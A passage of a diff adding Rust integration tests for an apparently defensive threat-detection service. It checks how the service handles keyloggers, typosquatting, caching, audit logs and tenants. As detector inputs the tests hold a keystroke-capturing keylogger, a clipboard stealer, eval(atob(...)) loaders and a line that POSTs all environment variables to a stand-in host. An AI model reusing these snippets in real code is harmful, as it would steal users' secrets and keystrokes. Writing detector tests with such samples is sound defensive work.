+        let mut cleared = body.clone();
+        cleared["reasons"] = serde_json::json!([]);
+        assert!(signing::verify(&verdict(&cleared), &signature, public_key).is_err());
+        let mut backdated = signature.clone();
+        backdated.signed_at = "2020-01-01T00:00:00+00:00".to_string();
+        assert!(signing::verify(&verdict(&body), &backdated, public_key).is_err());
+        // A different key does not vouch for it
+        let other = signing::Signer::load(&other_path, "other".to_string()).unwrap();
+        assert!(signing::verify(&verdict(&body), &signature, &other.public_key()).is_err());
+    }
+
+    #[actix_web::test]
+    async fn keyloggers_are_data_theft_but_lone_clipboard_or_key_handlers_are_not() {
+        let app = app(&state(settings())).await;
+        let keylogger = r#"document.addEventListener("keydown", e => { buf += e.key; navigator.sendBeacon("/k", buf); });"#;
+        let body: serde_json::Value = read_body_json(call_service(&app, explain("code", keylogger, None).to_request()).await).await;
+        assert_eq!(outcome(&body, "data_theft"), "hit");
+        assert!(reasons(&body).contains(&"Possible data theft (keystroke capture)"), "{:?}", body["reasons"]);
+        let stealer = r#"document.onkeyup = log; navigator.clipboard.readText().then(t => log(t));"#;
+        let body: serde_json::Value = read_body_json(call_service(&app, explain("code", stealer, None).to_request()).await).await;
+        assert!(reasons(&body).contains(&"Possible data theft (keystroke capture, clipboard access)"), "{:?}", body["reasons"]);
+
+        for benign in [
+            r#"pasteButton.addEventListener("click", () => navigator.clipboard.readText().then(t => input.value = t));"#,
+            r#"window.addEventListener("keydown", e => { if (e.key === "Escape") dialog.close(); });"#,
+        ] {
+            let body: serde_json::Value = read_body_json(call_service(&app, explain("code", benign, None).to_request()).await).await;
+            assert_eq!(outcome(&body, "data_theft"), "pass", "{}", benign);
+        }
+    }
+
+    #[actix_web::test]
+    async fn typosquatted_installs_are_flagged_and_real_packages_are_not() {
+        let app = app(&state(settings())).await;
+        let squat: serde_json::Value = read_body_json(call_service(&app, explain("code", "RUN npm install expres", None).to_request()).await).await;
+        assert_eq!(outcome(&squat, "package_typosquat"), "hit");
+        assert!(reasons(&squat).contains(&"Possible typosquatted package: expres (like express)"), "{:?}", squat["reasons"]);
+        let action: serde_json::Value = read_body_json(call_service(&app, explain("action", "pip install reqeusts", None).to_request()).await).await;
+        assert_eq!(outcome(&action, "package_typosquat"), "hit");
+
+        for legitimate in ["RUN npm install express", "pip install requests==2.32.0"] {
+            let body: serde_json::Value = read_body_json(call_service(&app, explain("code", legitimate, None).to_request()).await).await;
+            assert_eq!(outcome(&body, "package_typosquat"), "pass", "{}", legitimate);
+        }
+    }
+
+    #[cfg(feature = "dashboard")]
+    #[actix_web::test]
+    async fn dashboard_page_is_public_and_its_session_reads_stats() {
+        const KEY: &str = "k-client-0123";
+        let mut settings = settings();
+        settings.api_keys = vec![KEY.to_string()];
+        let app = app(&state(settings)).await;
+
+        let page = call_service(&app, TestRequest::get().uri("/dashboard").to_request()).await;
+        assert_eq!(page.status(), 200);
+        let html = String::from_utf8(actix_web::test::read_body(page).await.to_vec()).unwrap();
+        assert!(html.contains("/api/stats/stream"));
+        assert_eq!(call_service(&app, TestRequest::get().uri("/api/stats").to_request()).await.status(), 401);
+
+        let session = TestRequest::post().uri("/dashboard/session");
+        assert_eq!(call_service(&app, session.to_request()).await.status(), 401);
+        let session = TestRequest::post().uri("/dashboard/session").insert_header(("X-Api-Key", KEY));
+        let response = call_service(&app, session.to_request()).await;
+        assert_eq!(response.status(), 204);
+        let cookie = response.response().cookies().find(|c| c.name() == auth::SESSION_COOKIE).unwrap();
+        assert_eq!((cookie.http_only(), cookie.path()), (Some(true), Some("/api")));
+        // The cookie names a session, not the key
+        assert_ne!(cookie.value(), KEY);
+        let stats = TestRequest::get().uri("/api/stats").cookie(cookie.into_owned());
+        assert_eq!(call_service(&app, stats.to_request()).await.status(), 200);
+    }
+
+    #[cfg(not(feature = "dashboard"))]
+    #[actix_web::test]
+    async fn dashboard_is_absent_without_its_feature() {
+        let app = app(&state(settings())).await;
+        assert_eq!(call_service(&app, TestRequest::get().uri("/dashboard").to_request()).await.status(), 404);
+    }
+
+    #[actix_web::test]
+    async fn near_duplicate_scripts_reuse_the_cached_verdict() {
+        let script = |comment: &str| format!(
+            "<script>// {}\nvar payload = atob(encoded_blob_from_server);\nfunction run_update(config, options) {{ eval(payload); return config.version + options.channel; }}\nrun_update(window.settings, document.defaults);</script>",
+            comment
+        );
+        let mut settings = settings();
+        settings.fuzzy_cache = true;
+        let app = app(&state(settings)).await;
+        let verdict = |content: String| detect("code", &content).to_request();
+
+        let first: serde_json::Value = read_body_json(call_service(&app, verdict(script("update helper v1"))).await).await;
+        assert_eq!((&first["is_threat"], &first["fuzzy_cached"]), (&serde_json::json!(true), &serde_json::json!(false)));
+        let edited: serde_json::Value = read_body_json(call_service(&app, verdict(script("update helper v2"))).await).await;
+        assert_eq!(edited["fuzzy_cached"], true);
+        assert_eq!((&edited["confidence"], &edited["reasons"]), (&first["confidence"], &first["reasons"]));
+
+        let unrelated = "function total(items) { let sum = 0; for (const item of items) { sum += item.price * item.quantity; } return sum; } eval(x);";
+        let other: serde_json::Value = read_body_json(call_service(&app, verdict(unrelated.to_string())).await).await;
+        assert_eq!(other["fuzzy_cached"], false);
+    }
+
+    #[actix_web::test]
+    async fn emergency_rule_flags_content_until_it_expires() {
+        let clock = Arc::new(clock::ManualClock::new());
+        let state = manual_state(settings(), &clock);
+        let app = app(&state).await;
+        let content = "https://cdn.campaign-example.net/update";
+        let verdict = || detect("url", content).to_request();
+        let before: serde_json::Value = read_body_json(call_service(&app, verdict()).await).await;
+        assert_eq!(before["is_threat"], false);
+
+        let push = TestRequest::post()
+            .uri("/api/rules/emergency")
+            .set_json(serde_json::json!({ "pattern": "campaign-example.net", "ttl_secs": 60, "reason": "Active campaign" }));
+        assert_eq!(call_service(&app, push.to_request()).await.status(), 201);
+        let flagged: serde_json::Value = read_body_json(call_service(&app, verdict()).await).await;
+        assert_eq!(flagged["is_threat"], true);
+        assert_eq!(flagged["cached"], false);
+        assert!(flagged["reasons"].as_array().unwrap().contains(&serde_json::json!("Active campaign")));
+
+        clock.advance(Duration::from_secs(59));
+        let still: serde_json::Value = read_body_json(call_service(&app, verdict()).await).await;
+        assert_eq!(still["is_threat"], true);
+        clock.advance(Duration::from_secs(1));
+        let expired: serde_json::Value = read_body_json(call_service(&app, verdict()).await).await;
+        assert_eq!(expired["is_threat"], false);
+        assert_eq!(expired["cached"], false);
+        let list: serde_json::Value = read_body_json(call_service(&app, TestRequest::get().uri("/api/rules/emergency").to_request()).await).await;
+        assert_eq!(list["rules"], serde_json::json!([]));
+    }
+
+    #[actix_web::test]
+    async fn raw_bodies_are_detected_by_content_type_within_the_size_limit() {
+        let mut settings = settings();
+        settings.max_content_bytes = 1024;
+        let app = app(&state(settings)).await;
+        let raw = |content_type: &str, body: Vec<u8>| {
+            TestRequest::post().uri("/api/detect/raw?threat_type=code").insert_header(("Content-Type", content_type.to_string())).set_payload(body).to_request()
+        };
+
+        let text: serde_json::Value = read_body_json(call_service(&app, raw("text/plain; charset=utf-8", b"<script>eval(atob(x))</script>".to_vec())).await).await;
+        assert_eq!((&text["threat_type"], &text["is_threat"]), (&serde_json::json!("malware"), &serde_json::json!(true)));
+        assert!(text.get("lossy_utf8").is_none());
+        let binary: serde_json::Value = read_body_json(call_service(&app, raw("application/octet-stream", b"eval(\xff\xfe)".to_vec())).await).await;
+        assert_eq!(binary["lossy_utf8"], true);
+
+        let json = call_service(&app, raw("application/json", b"{}".to_vec())).await;
+        assert_eq!(json.status(), 415);
+        let body: serde_json::Value = read_body_json(json).await;
+        assert_eq!(body["supported"], serde_json::json!(RAW_CONTENT_TYPES));
+        assert_eq!(call_service(&app, raw("text/plain", vec![b'a'; 2048])).await.status(), 413);
+        let untyped = TestRequest::post().uri("/api/detect/raw").insert_header(("Content-Type", "text/plain")).set_payload("eval(x)");
+        let missing: serde_json::Value = read_body_json(call_service(&app, untyped.to_request()).await).await;
+        assert_eq!(missing["violations"][0]["pointer"], "/threat_type");
+    }
+
+    #[actix_web::test]
+    async fn env_secrets_sent_off_the_host_outweigh_plain_env_reads() {
+        let app = app(&state(settings())).await;
+        let harvest = "const dump = JSON.stringify(process.env); https.request({ host: 'collect.example.net', method: 'POST' }).end(dump);";
+        let exfil: serde_json::Value = read_body_json(call_service(&app, explain("code", harvest, None).to_request()).await).await;
+        assert_eq!((outcome(&exfil, "env_access"), outcome(&exfil, "env_exfiltration")), ("hit", "hit"));
+        assert!(reasons(&exfil).contains(&"Reads the whole environment"));
+        assert!(reasons(&exfil).contains(&"Environment secrets read alongside a network send"));
+
+        let config = "const port = Number(process.env.PORT || 3000); app.listen(port);";
+        let benign: serde_json::Value = read_body_json(call_service(&app, explain("code", config, None).to_request()).await).await;
+        assert_eq!((outcome(&benign, "env_access"), outcome(&benign, "env_exfiltration")), ("hit", "pass"));
+        assert_eq!(benign["is_threat"], false);
+        assert!(exfil["confidence"].as_f64().unwrap() > benign["confidence"].as_f64().unwrap());
+    }
+
+    #[actix_web::test]
+    async fn threat_verdicts_audit_each_stage_contribution_when_enabled() {
+        for enabled in [true, false] {
+            let mut settings = settings();
+            std::fs::create_dir_all(&settings.data_dir).unwrap();
+            let audit_log = settings.data_dir.join("audit.jsonl");
+            settings.audit_log_path = Some(audit_log.clone());
+            settings.audit_contributions = enabled;
+            let state = state(settings);
+            let app = app(&state).await;
+
+            let threat: serde_json::Value = read_body_json(call_service(&app, detect("code", "<script>eval(atob(x))</script>").to_request()).await).await;
+            assert_eq!(threat["is_threat"], true);
+            // The breakdown goes to the audit sink only
+            assert!(threat.get("trace").is_none());
+            call_service(&app, detect("code", "console.log('hello')").to_request()).await;
+
+            state.audit.flush();
+            let records: Vec<serde_json::Value> = std::fs::read_to_string(&audit_log)
+                .unwrap()
+                .lines()
+                .map(|line| serde_json::from_str(line).unwrap())
+                .filter(|record: &serde_json::Value| record["event"] == "detection.contributions")
+                .collect();
+            if !enabled {
+                assert!(records.is_empty());
+                continue;
+            }
+            assert_eq!(records.len(), 1);
+            let details = &records[0]["details"];
+            assert_eq!(details["confidence"].as_f64().unwrap() as f32, threat["confidence"].as_f64().unwrap() as f32);
+            let stages = details["stages"].as_array().unwrap();
+            let contribution = |stage: &str| stages.iter().find(|s| s["stage"] == stage).map(|s| s["contribution"].as_f64().unwrap());
+            assert!(contribution("suspicious_functions").unwrap() > 0.0);
+            assert_eq!(contribution("data_theft"), Some(0.0));
+        }
+    }
+
+    #[actix_web::test]
+    async fn identical_payloads_are_linked_across_threat_types_within_a_tenant() {
+        let mut settings = settings();
+        settings.tenants.insert("a".to_string(), config::TenantSettings::default());
+        settings.tenants.insert("b".to_string(), config::TenantSettings::default());
+        let app = app(&state(settings)).await;
+        let payload = "<script>eval(atob('ZmV0Y2goJy9rJyk='))</script>";
+        let in_tenant = |req: TestRequest, tenant: &str| req.insert_header(("X-Tenant-Id", tenant.to_string()));
+
+        let first: serde_json::Value = read_body_json(call_service(&app, in_tenant(detect("code", payload), "a").to_request()).await).await;
+        assert!(first.get("previously_seen").is_none());
+        // Case and whitespace do not change the fingerprint
+        let reformatted = format!("  {}\n", payload.to_uppercase());
+        let second: serde_json::Value = read_body_json(call_service(&app, in_tenant(detect("url", &reformatted), "a").to_request()).await).await;
+        let seen = &second["previously_seen"];
+        assert_eq!(seen["fingerprint"], fingerprints::fingerprint(payload));
+        assert_eq!((&seen["detections"][0]["detection_id"], &seen["detections"][0]["threat_type"]), (&first["detection_id"], &serde_json::json!("code")));
+
+        let history = |tenant: &str| in_tenant(TestRequest::get().uri(&format!("/api/detections/by-fingerprint/{}", fingerprints::fingerprint(payload))), tenant).to_request();
+        let body: serde_json::Value = read_body_json(call_service(&app, history("a")).await).await;
+        let types: Vec<&str> = body["detections"].as_array().unwrap().iter().map(|d| d["threat_type"].as_str().unwrap()).collect();
+        assert_eq!(types, ["url", "code"]);
+        // Another tenant learns nothing of it
+        assert_eq!(call_service(&app, history("b")).await.status(), 404);
+    }
+
+    #[actix_web::test]
+    async fn schemes_outside_the_allowed_set_are_flagged() {
+        let builtin = app(&state(settings())).await;
+        let mut settings = settings();
+        settings.allowed_url_schemes = vec!["https".to_string(), "HTTP".to_string(), "ftp".to_string()];
+        let app = app(&state(settings)).await;
+        let verdict = |url: &str| explain("url", url, None).to_request();
+
+        for (url, scheme) in [("ftp://files.example.org/report", "pass"), ("file:///etc/passwd", "hit"), ("https://example.org/", "pass"), ("http://example.org/", "pass")] {
+            let body: serde_json::Value = read_body_json(call_service(&app, verdict(url)).await).await;
+            assert_eq!(outcome(&body, "scheme"), scheme, "{}", url);
+        }
+        let file: serde_json::Value = read_body_json(call_service(&app, verdict("file:///etc/passwd")).await).await;
+        assert!(reasons(&file).contains(&"Unexpected URL scheme \"file\""));
+        // The default set is http and https only
+        let ftp: serde_json::Value = read_body_json(call_service(&builtin, verdict("ftp://files.example.org/report")).await).await;
+        assert_eq!(outcome(&ftp, "scheme"), "hit");
+    }
+
+    #[actix_web::test]
+    async fn disabling_a_threat_type_removes_it_from_capabilities_and_changes_the_etag() {
+        let disabled = state(Settings { disabled_threat_types: vec!["code".to_string()], ..settings() });
+        let (app, disabled) = (app(&state(settings())).await, app(&disabled).await);
+        let capabilities = || TestRequest::get().uri("/api/capabilities");
+        let described = |body: &serde_json::Value| -> Vec<String> {
+            body["threat_types"].as_array().unwrap().iter().map(|t| t["threat_type"].as_str().unwrap().to_string()).collect()
+        };
+
+        let response = call_service(&app, capabilities().to_request()).await;
+        let etag = response.headers().get("ETag").unwrap().to_str().unwrap().to_string();
+        let body: serde_json::Value = read_body_json(response).await;
+        assert!(described(&body).contains(&"code".to_string()), "{:?}", described(&body));
+        let code = body["threat_types"].as_array().unwrap().iter().find(|t| t["threat_type"] == "code").unwrap();
+        assert_eq!(code["response_type"], "malware");
+        assert!(code["stages"].as_array().unwrap().iter().any(|s| s == "cryptominer"));
+        let unchanged = call_service(&app, capabilities().insert_header(("If-None-Match", etag.clone())).to_request()).await;
+        assert_eq!(unchanged.status(), 304);
+
+        let response = call_service(&disabled, capabilities().insert_header(("If-None-Match", etag.clone())).to_request()).await;
+        assert_eq!(response.status(), 200);
+        assert_ne!(response.headers().get("ETag").unwrap().to_str().unwrap(), etag);
+        let body: serde_json::Value = read_body_json(response).await;
+        assert!(!described(&body).contains(&"code".to_string()), "{:?}", described(&body));
+        assert!(described(&body).contains(&"url".to_string()));
+    }
+
+    #[actix_web::test]
+    async fn recurring_weak_signals_escalate_later_verdicts() {
+        let escalating = state(Settings { recurrence_threshold: 2, recurrence_min_confidence: 0.0, ..settings() });
+        let service = app(&escalating).await;
+        let verdict = |path: &str| detect("url", &format!("https://shop.example.org/{}", path)).to_request();
+        let before: serde_json::Value = read_body_json(call_service(&service, verdict("a")).await).await;
+        call_service(&service, verdict("b")).await;
+        call_service(&service, verdict("c")).await;
+
+        let after: serde_json::Value = read_body_json(call_service(&service, verdict("d")).await).await;
+        let raised = after["confidence"].as_f64().unwrap() - before["confidence"].as_f64().unwrap();
+        assert!((raised - 0.3).abs() < 1e-6, "confidence raised by {}", raised);
+        assert!(after["reasons"].as_array().unwrap().iter().any(|r| r.as_str().unwrap().starts_with("Recurring suspicious indicator")));
+
+        // Off by default: the same traffic changes nothing
+        let service = app(&state(settings())).await;
+        for path in ["a", "b", "c"] {
+            call_service(&service, verdict(path)).await;
+        }
+        let after: serde_json::Value = read_body_json(call_service(&service, verdict("d")).await).await;
+        assert_eq!(after["confidence"], before["confidence"]);
+    }
+
+    #[actix_web::test]
+    async fn escalation_evicts_only_its_indicators_cache_entries() {
+        let state = state(Settings { recurrence_threshold: 2, recurrence_min_confidence: 0.0, ..settings() });
+        let service = app(&state).await;
+        let verdict = |url: &str| detect("url", url).to_request();
+        let other = "https://news.example.net/today";
+        let escalating = "https://shop.example.org/a";
+        call_service(&service, verdict(other)).await;
+        call_service(&service, verdict(escalating)).await;
+        for path in ["b", "c"] {
+            call_service(&service, verdict(&format!("https://shop.example.org/{}", path))).await;
+        }
+        assert_eq!(state.recurrence.escalated().len(), 1);
+
+        let unrelated: serde_json::Value = read_body_json(call_service(&service, verdict(other)).await).await;
+        assert_eq!(unrelated["cached"], true);
+        let escalated: serde_json::Value = read_body_json(call_service(&service, verdict(escalating)).await).await;
+        assert_ne!(escalated["cached"], true);
+        assert!(escalated["reasons"].as_array().unwrap().iter().any(|r| r.as_str().unwrap().starts_with("Recurring suspicious indicator")));
+    }
+
+    #[test]
+    fn client_timeouts_are_clamped_to_the_server_maximum() {
+        let mut settings = settings();
+        settings.max_request_timeout_ms = 1000;
+        let received = std::time::Instant::now();
+        let deadline = |settings: &Settings, header: &str| {
+            let http_req = TestRequest::default().insert_header(("X-Timeout-Ms", header)).to_http_request();
+            request_deadline(&http_req, settings, received).map(|d| d.duration_since(received))
+        };
+
+        assert_eq!(deadline(&settings, "50"), Some(Duration::from_millis(50)));
+        assert_eq!(deadline(&settings, " 60000 "), Some(Duration::from_secs(1)));
+        assert_eq!(deadline(&settings, "0"), Some(Duration::from_millis(1)));
+        assert_eq!(deadline(&settings, "soon"), None);
+        assert_eq!(request_deadline(&TestRequest::default().to_http_request(), &settings, received), None);
+        settings.max_request_timeout_ms = 0;
+        assert_eq!(deadline(&settings, "50"), None);
+    }
+
+    /// The built-in phishing detector, after taking `delay` on a manual clock
+    struct SlowDetector {
+        clock: Arc<clock::ManualClock>,
+        delay: Duration,
+    }
+
+    impl detector::Detector for SlowDetector {
+        fn response_type(&self) -> &'static str {
+            "phishing"
+        }
+
+        fn detect(&self, req: &ThreatDetectionRequest, ctx: &DetectionContext) -> ThreatDetectionResponse {
+            self.clock.advance(self.delay);
+            detector::PhishingDetector.detect(req, ctx)
+        }
+    }
+
+    #[actix_web::test]
+    async fn a_slow_detector_past_the_client_timeout_answers_with_a_timeout_verdict() {
+        let clock = Arc::new(clock::ManualClock::new());
+        let mut state = Arc::try_unwrap(manual_state(settings(), &clock).into_inner()).ok().unwrap();
+        state.detectors.register("url", SlowDetector { clock: clock.clone(), delay: Duration::from_millis(20) });
+        let app = app(&web::Data::new(state)).await;
+        let verdict = |url: &str, timeout: Option<&str>| {
+            let req = detect("url", url);
+            match timeout {
+                Some(ms) => req.insert_header(("X-Timeout-Ms", ms.to_string())),
+                None => req,
+            }
+            .to_request()
+        };
+
+        let late: serde_json::Value = read_body_json(call_service(&app, verdict("https://example.org/a", Some("5"))).await).await;
+        assert_eq!((&late["timed_out"], &late["verdict"]), (&serde_json::json!(true), &serde_json::json!("needs_review")));
+        assert!(reasons(&late)[0].starts_with("Detection deadline exceeded"));
+        let patient: serde_json::Value = read_body_json(call_service(&app, verdict("https://example.org/b", Some("50"))).await).await;
+        assert!(patient.get("timed_out").is_none());
+        let unbounded: serde_json::Value = read_body_json(call_service(&app, verdict("https://example.org/c", None)).await).await;
+        assert!(unbounded.get("timed_out").is_none());
+    }
+
+    #[actix_web::test]
+    async fn exported_bundles_import_to_the_same_effective_configuration() {
+        const PASSPHRASE: &str = "correct horse battery staple";
+        let admin = |req: TestRequest| req.insert_header(("X-Bundle-Passphrase", PASSPHRASE)).to_request();
+        let export = || admin(TestRequest::get().uri("/api/admin/export"));
+        let import = |bundle: &serde_json::Value| admin(TestRequest::post().uri("/api/admin/import").set_json(bundle));
+        // What an instance runs with, leaving out when it was exported and the freshly sealed tokens
+        let effective = |mut bundle: serde_json::Value| {
+            let object = bundle.as_object_mut().unwrap();
+            object.remove("exported_at");
+            object.remove("honeytokens");
+            bundle
+        };
+
+        let source_state = state(settings());
+        let source = app(&source_state).await;
+        let thresholds = serde_json::json!({ "threat": 0.6, "critical": 0.95, "high": 0.85, "medium": 0.65, "review": 0.4 });
+        let put = admin(TestRequest::put().uri("/api/admin/thresholds/url").set_json(&thresholds));
+        assert_eq!(call_service(&source, put).await.status(), 200);
+        let mut pipelines = (**source_state.pipelines.read().unwrap()).clone();
+        pipelines.get_mut("url").unwrap().retain(|s| s.stage != "url_length");
+        *source_state.pipelines.write().unwrap() = Arc::new(pipelines);
+        let token: serde_json::Value = read_body_json(call_service(&source, admin(TestRequest::post().uri("/api/admin/honeytokens").set_json(serde_json::json!({ "kind": "credential" })))).await).await;
+        let bundle: serde_json::Value = read_body_json(call_service(&source, export()).await).await;
+        assert_eq!(bundle["version"], bundle::BUNDLE_VERSION);
+
+        let target = app(&state(settings())).await;
+        let untouched: serde_json::Value = read_body_json(call_service(&target, export()).await).await;
+        // An invalid bundle is reported in full and changes nothing
+        let mut invalid = bundle.clone();
+        invalid["thresholds"]["url"]["threat"] = serde_json::json!(1.5);
+        invalid["pipelines"]["url"][0]["stage"] = serde_json::json!("sandbox");
+        let refused = call_service(&target, import(&invalid)).await;
+        assert_eq!(refused.status(), 400);
+        let body: serde_json::Value = read_body_json(refused).await;
+        let pointers: Vec<&str> = body["violations"].as_array().unwrap().iter().map(|v| v["pointer"].as_str().unwrap()).collect();
+        assert_eq!(pointers, ["/thresholds/url", "/pipelines"]);
+        let after: serde_json::Value = read_body_json(call_service(&target, export()).await).await;
+        assert_eq!(effective(after), effective(untouched.clone()));
+        assert_ne!(effective(untouched), effective(bundle.clone()));
+
+        assert_eq!(call_service(&target, import(&bundle)).await.status(), 200);
+        let imported: serde_json::Value = read_body_json(call_service(&target, export()).await).await;
+        assert_eq!(effective(imported), effective(bundle));
+        // The sealed honeytokens came across too
+        let used = format!("login with {}", token["value"].as_str().unwrap());
+        let triggered: serde_json::Value = read_body_json(call_service(&target, detect("action", &used).to_request()).await).await;
+        assert_eq!(triggered["honeytoken_id"], token["id"]);
+    }
+
+    #[actix_web::test]
+    async fn the_most_submitted_threat_leads_the_top_list() {
+        let app = app(&state(settings())).await;
+        let submit = |content: &str, times: usize| {
+            let content = content.to_string();
+            let app = &app;
+            async move {
+                for _ in 0..times {
+                    call_service(app, detect("code", &content).to_request()).await;
+                }
+            }
+        };
+        submit("<script>eval(atob(a))</script>", 5).await;
+        submit("<script>eval(atob(b))</script>", 2).await;
+        submit("console.log('hello')", 9).await;
+
+        let top: serde_json::Value = read_body_json(call_service(&app, TestRequest::get().uri("/api/stats/top?n=5").to_request()).await).await;
+        let entries = top["entries"].as_array().unwrap();
+        // Safe verdicts are not counted, however often they are seen
+        assert_eq!(entries.len(), 2);
+        assert_eq!((&entries[0]["content_hash"], &entries[0]["count"]), (&serde_json::json!(hash_string("<script>eval(atob(a))</script>")), &serde_json::json!(5)));
+        assert_eq!((&entries[0]["threat_type"], &entries[1]["count"]), (&serde_json::json!("code"), &serde_json::json!(2)));
+    }
+
+    #[actix_web::test]
+    async fn memory_pressure_sheds_load_by_level_and_recovers_with_hysteresis() {
+        let mut settings = settings();
+        settings.memory_soft_limit_bytes = 1000;
+        settings.memory_hard_limit_bytes = 2000;
+        settings.cache_capacity = 100;
+        let state = state(settings);
+        let app = app(&state).await;
+        call_service(&app, detect("code", "<script>eval(atob(x))</script>").to_request()).await;
+        call_service(&app, detect("code", "console.log('hello')").to_request()).await;
+        let pressure = |bytes: usize| {
+            relieve_pressure(&state, BTreeMap::from([("cache", bytes)]));
+            state.pressure.level()
+        };
+        let batch = || {
+            let body = serde_json::json!({ "threats": [{ "threat_type": "url", "content": "https://example.org/" }] });
+            TestRequest::post().uri("/api/detect/batch").set_json(body).to_request()
+        };
+
+        assert_eq!(pressure(1500), Level::Soft);
+        {
+            let cache = state.lock_cache();
+            assert_eq!((cache.len(), cache.cap().get()), (1, 50));
+        }
+        let health: serde_json::Value = read_body_json(call_service(&app, TestRequest::get().uri("/api/health").to_request()).await).await;
+        assert_eq!(health["memory_pressure"]["level"], "soft");
+        assert!(health["memory_pressure"]["actions"].as_array().unwrap().contains(&serde_json::json!("dropped 1 clean cache entries")));
+
+        assert_eq!(pressure(2500), Level::Hard);
+        assert_eq!(state.lock_cache().cap().get(), 25);
+        assert_eq!(call_service(&app, batch()).await.status(), 503);
+
+        // Each level is only left 10% below the watermark that raised it
+        assert_eq!(pressure(1850), Level::Hard);
+        assert_eq!(pressure(1700), Level::Soft);
+        assert_eq!(call_service(&app, batch()).await.status(), 200);
+        assert_eq!(pressure(950), Level::Soft);
+        assert_eq!(pressure(800), Level::Normal);
+        assert_eq!(state.lock_cache().cap().get(), 100);
+        let stats: serde_json::Value = read_body_json(call_service(&app, TestRequest::get().uri("/api/stats").to_request()).await).await;
+        assert_eq!((&stats["memory_pressure"]["level"], &stats["memory_pressure"]["actions"]), (&serde_json::json!("normal"), &serde_json::json!([])));
+    }
+
+    #[actix_web::test]
+    async fn forced_severity_clamps_confidence_only_when_enabled() {
+        let content = "https://vendor.example.com/invoice";
+        let forced = config::VerdictOverride { is_threat: true, severity: "critical".to_string(), confidence: Some(0.2) };
+        let overrides = HashMap::from([(hash_string(content), forced)]);
+        let floor = thresholds::lookup(&HashMap::new(), "url").floor("critical").unwrap();
+
+        let clamped = state(Settings { overrides: overrides.clone(), clamp_confidence_to_severity: true, ..settings() });
+        let service = app(&clamped).await;
+        let body: serde_json::Value = read_body_json(call_service(&service, detect("url", content).to_request()).await).await;
+        assert_eq!(body["severity"], "critical");
+        assert!((body["confidence"].as_f64().unwrap() - floor as f64).abs() < 1e-6);
+
+        let service = app(&state(Settings { overrides, ..settings() })).await;
+        let body: serde_json::Value = read_body_json(call_service(&service, detect("url", content).to_request()).await).await;
+        assert_eq!(body["severity"], "critical");
+        assert!((body["confidence"].as_f64().unwrap() - 0.2).abs() < 1e-6);
+    }
+
+    #[actix_web::test]
+    async fn test_vectors_verify_passes_their_own_responses_and_points_at_changed_fields() {
+        let state = state(settings());
+        let app = app(&state).await;
+        let set: serde_json::Value = read_body_json(call_service(&app, TestRequest::get().uri("/api/testvectors").to_request()).await).await;
+        let vectors = set["vectors"].as_array().unwrap();
+        let names: Vec<&str> = vectors.iter().map(|v| v["name"].as_str().unwrap()).collect();
+        assert!(["action_empty_context", "code_unicode", "url_max_length", "batch_failing_item"].iter().all(|n| names.contains(n)));
+        let failing = vectors.iter().find(|v| v["name"] == "batch_failing_item").unwrap();
+        assert_eq!(failing["status"], 400);
+
+        let verify = |results: Vec<serde_json::Value>| {
+            let body = serde_json::json!({ "version": set["version"], "results": results });
+            TestRequest::post().uri("/api/testvectors/verify").set_json(body).to_request()
+        };
+        let echoed: Vec<serde_json::Value> = vectors
+            .iter()
+            .map(|v| serde_json::json!({ "name": v["name"], "status": v["status"], "response": v["response"] }))
+            .collect();
+        let report: serde_json::Value = read_body_json(call_service(&app, verify(echoed.clone())).await).await;
+        assert_eq!((&report["stale"], &report["failed"], &report["passed"]), (&serde_json::json!(false), &serde_json::json!(0), &serde_json::json!(vectors.len())));
+        assert!(report["missing"].as_array().unwrap().is_empty());
+
+        let mut changed = echoed;
+        let malicious = changed.iter_mut().find(|r| r["name"] == "code_malicious").unwrap();
+        malicious["response"]["is_threat"] = serde_json::json!(false);
+        malicious["response"]["latency_ms"] = serde_json::json!(123.0);
+        changed.retain(|r| r["name"] != "url_benign");
+        changed.push(serde_json::json!({ "name": "no_such_vector", "response": {} }));
+        let report: serde_json::Value = read_body_json(call_service(&app, verify(changed)).await).await;
+        assert_eq!(report["failed"], 1);
+        assert_eq!(
+            report["mismatches"],
+            serde_json::json!([{ "vector": "code_malicious", "pointer": "/is_threat", "expected": true, "actual": false }])
+        );
+        assert_eq!((&report["missing"], &report["unknown"]), (&serde_json::json!(["url_benign"]), &serde_json::json!(["no_such_vector"])));
+    }
+
+    #[actix_web::test]
+    async fn test_vectors_are_regenerated_when_the_rules_change() {
+        let state = state(settings());
+        let before = state.test_vectors();
+        assert!(Arc::ptr_eq(&before, &state.test_vectors()));
+        state.rules_generation.fetch_add(1, Ordering::SeqCst);
+        let after = state.test_vectors();
+        assert_ne!(before.version, after.version);
+        assert_eq!(after.rules_generation, before.rules_generation + 1);
+    }
+
+    #[actix_web::test]
+    async fn detection_past_the_cache_ttl_is_recomputed_and_counted_as_expired() {
+        let clock = Arc::new(clock::ManualClock::new());
+        let mut settings = settings();
+        settings.cache_ttl_secs = 60;
+        let state = manual_state(settings, &clock);
+        let app = app(&state).await;
+        let stats = || async {
+            let stats: serde_json::Value = read_body_json(call_service(&app, TestRequest::get().uri("/api/stats").to_request()).await).await;
+            (stats["cache_misses"].as_u64().unwrap(), stats["cache_expired"].as_u64().unwrap())
+        };
+        let first: serde_json::Value = read_body_json(call_service(&app, detect("url", "https://example.org/").to_request()).await).await;
+        assert_eq!(first["cached"], false);
+        clock.advance(Duration::from_secs(59));
+        let fresh: serde_json::Value = read_body_json(call_service(&app, detect("url", "https://example.org/").to_request()).await).await;
+        assert_eq!(fresh["cached"], true);
+        assert_eq!(stats().await, (1, 0));
+
+        clock.advance(Duration::from_secs(1));
+        let expired: serde_json::Value = read_body_json(call_service(&app, detect("url", "https://example.org/").to_request()).await).await;
+        assert_eq!(expired["cached"], false);
+        assert_eq!(stats().await, (2, 1));
+        let cached_again: serde_json::Value = read_body_json(call_service(&app, detect("url", "https://example.org/").to_request()).await).await;
+        assert_eq!(cached_again["cached"], true);
+    }
+
+    #[actix_web::test]
+    async fn cache_sweep_removes_expired_entries_without_a_lookup() {
+        let clock = Arc::new(clock::ManualClock::new());
+        let mut settings = settings();
+        settings.cache_ttl_secs = 30;
+        let state = manual_state(settings, &clock);
+        let app = app(&state).await;
+        call_service(&app, detect("code", "console.log('hello')").to_request()).await;
+        clock.advance(Duration::from_secs(20));
+        call_service(&app, detect("url", "https://example.org/").to_request()).await;
+        assert_eq!(state.lock_cache().len(), 2);
+
+        clock.advance(Duration::from_secs(11));
+        actix_rt::spawn(sweep_cache(state.clone()));
+        until(|| state.lock_cache().len() == 1).await;
+        let stats: serde_json::Value = read_body_json(call_service(&app, TestRequest::get().uri("/api/stats").to_request()).await).await;
